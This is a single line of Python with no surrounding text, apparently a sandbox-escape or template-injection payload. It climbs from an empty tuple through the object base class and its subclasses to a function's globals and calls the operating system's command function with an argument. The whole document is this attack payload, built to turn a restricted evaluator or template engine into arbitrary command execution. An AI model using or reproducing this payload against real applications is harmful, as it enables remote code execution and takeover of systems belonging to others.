().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['system'](x)
